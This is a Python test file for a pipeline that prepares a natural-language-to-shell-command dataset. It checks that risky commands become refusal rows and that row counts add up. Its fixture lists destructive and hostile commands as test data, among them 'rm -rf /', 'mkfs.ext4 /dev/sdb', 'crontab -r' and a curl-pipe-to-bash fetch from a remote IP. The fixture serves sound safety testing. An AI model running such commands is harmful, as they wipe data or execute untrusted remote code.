"""`prepare` on icalfa plus a few dangerous rows: refusal rows, near-miss and adversarial rows, accounting."""

from __future__ import annotations

import json
import re
from pathlib import Path

import pytest

from common.prompt import REFUSAL_PREFIX, refusal
from preprocessing.generate import ADVERSARIAL_SOURCE, NEAR_MISS_SOURCE, bank_hashes
from preprocessing.params import PrepareParams
from preprocessing.pipeline import prepare
from preprocessing.records import CONVERTED, source_kind
from preprocessing.split import SPLITS

DANGEROUS = [
    ("erase the root of the file system", "rm -rf /"),
    ("format the second disk as ext4", "mkfs.ext4 /dev/sdb"),
    ("run the install script straight from the web", "curl -s http://203.0.113.8/i.sh | bash"),
    ("erase the root of the file system", "rm -rf --no-preserve-root /"),
    ("let everyone write notes.txt", "chmod 777 notes.txt"),
    ("drop every cron job I have", "crontab -r"),
    ("show the first line of notes.txt", "head -n 1 notes.txt"),
    ("count the words in notes.txt", "wc -w notes.txt"),
]
REFUSAL_LINE = re.compile(rf"^{re.escape(REFUSAL_PREFIX)} \S[^\n]*$")


@pytest.fixture(scope="module")
def run(tmp_path_factory: pytest.TempPathFactory):
    root = tmp_path_factory.mktemp("refusals")
    source = root / "dangerous.jsonl"
    source.write_text("".join(json.dumps({"nl": nl, "command": cmd}) + "\n" for nl, cmd in DANGEROUS))
    specs = [f"jsonl:{source}", "icalfa"]
    return specs, prepare(specs, root / "out", PrepareParams())


def _rows(result) -> list[dict]:
    return [row for name in SPLITS for row in result.splits[name]]


def test_blocked_rows_become_refusals_with_the_guards_reason(run) -> None:
    from commandrisk import assess, default_context

    _, result = run
    by_request = {row["messages"][1]["content"]: row for row in _rows(result)}
    converted = [r for r in result.rejects if r["outcome"] == CONVERTED]
    assert {r["command"] for r in converted} >= {"rm -rf /", "mkfs.ext4 /dev/sdb"}
    for reject in converted:
        blocking = [f for f in assess(reject["command"], default_context()).findings if f.verdict.value == "block"]
        answer = by_request[reject["nl"]]["messages"][2]["content"]
        assert answer == reject["refusal"] == refusal(blocking[0].message.rstrip("."))
        assert REFUSAL_LINE.match(answer) and by_request[reject["nl"]]["kind"] == "refusal"
        assert reject["stage"] == "danger" and reject["code"].startswith("block")
    twice = [r for r in result.rejects if r["code"] == "duplicate_refusal"]
    assert len(twice) == 1 and twice[0]["command"] in ("rm -rf /", "rm -rf --no-preserve-root /")


def test_warn_and_allow_rows_stay_ordinary_examples(run) -> None:
    from commandrisk import assess, default_context

    _, result = run
    ours = [row for row in _rows(result) if row["source"] == "jsonl" and row["kind"] == "command"]
    assert {row["guard"] for row in ours} >= {"allow", "warn"}
    for row in ours:
        assert assess(row["messages"][2]["content"], default_context()).verdict.value == row["guard"] != "block"


def test_generated_rows_are_present_and_well_formed(run) -> None:
    _, result = run
    rows = _rows(result)
    kinds = {row["kind"] for row in rows}
    assert kinds == {"command", "refusal", "near_miss", "adversarial_refusal", "adversarial_ignore"}
    for row in rows:
        answer = row["messages"][2]["content"]
        assert (row["kind"] in ("refusal", "adversarial_refusal")) == answer.startswith(REFUSAL_PREFIX)
        if answer.startswith(REFUSAL_PREFIX):
            assert REFUSAL_LINE.match(answer)
    assert {row["source"] for row in rows if row["kind"] == "near_miss"} == {source_kind(NEAR_MISS_SOURCE)}
    assert {row["source"] for row in rows if row["kind"].startswith("adversarial")} == {source_kind(ADVERSARIAL_SOURCE)}
    assert len(result.report["adversarial_families"]) == 7
    share = sum(row["kind"] in ("refusal", "adversarial_refusal", "adversarial_ignore") for row in rows) / len(rows)
    assert abs(share - PrepareParams().refusal_ratio) < 0.01


def test_kept_rejected_and_converted_add_up_to_the_input(run) -> None:
    _, result = run
    report = json.loads((result.out_dir / "report.json").read_text())
    counts = report["per_source"]["jsonl:dangerous.jsonl"]
    assert counts["input"] == len(DANGEROUS)
    assert (counts["kept"], counts["converted_to_refusal"], counts["rejected"]) == (4, 3, 1)
    funnel = report["funnel"]
    assert funnel["kept"] + funnel["converted_to_refusal"] + funnel["rejected"] == funnel["input"]
    danger = next(stage for stage in funnel["stages"] if stage["stage"] == "danger")
    assert danger["converted_to_refusal"] == funnel["converted_to_refusal"] == 3
    generated = {rows["rows"]: rows for rows in funnel["generated"]}
    assert set(generated) == {"near_miss", "adversarial"}
    for rows in generated.values():
        assert rows["in"] == rows["out"] + rows["dropped"] and rows["out"] > 0
    assert funnel["output"] == sum(report["splits"].values()) == (
        funnel["kept"] + funnel["converted_to_refusal"] + sum(rows["out"] for rows in generated.values()))
    lines = (result.out_dir / "rejects.jsonl").read_text().splitlines()
    assert len(lines) == funnel["rejected"] + funnel["converted_to_refusal"] + sum(r["dropped"] for r in generated.values())


def test_a_generated_row_shares_the_split_of_its_source(run) -> None:
    _, result = run
    split_of = {row["id"]: name for name in SPLITS for row in result.splits[name]}
    generated = [(name, row) for name in SPLITS for row in result.splits[name] if row["kind"].startswith("adversarial")]
    assert generated
    for name, row in generated:
        assert split_of[row["origin"]] == name, row["id"]


def test_manifest_records_the_generator_and_the_seed_decides_the_hash(run, tmp_path: Path) -> None:
    specs, result = run
    manifest = json.loads((result.out_dir / "manifest.json").read_text())
    assert manifest["generator"]["banks"] == bank_hashes()
    assert manifest["generator"]["seed"] == 0 and manifest["parameters"]["refusal_ratio"] == 0.06
    again = prepare(specs, tmp_path / "out", PrepareParams())
    for path in result.out_dir.iterdir():
        assert (again.out_dir / path.name).read_bytes() == path.read_bytes(), path.name
    reseeded = prepare(specs, tmp_path / "out", PrepareParams(generator_seed=1), dry_run=True)
    assert reseeded.dataset_hash != result.dataset_hash
    plain = prepare(specs, tmp_path / "out", PrepareParams(refusal_ratio=0, near_miss_ratio=0), dry_run=True)
    assert {row["kind"] for row in _rows(plain)} == {"command", "refusal"}
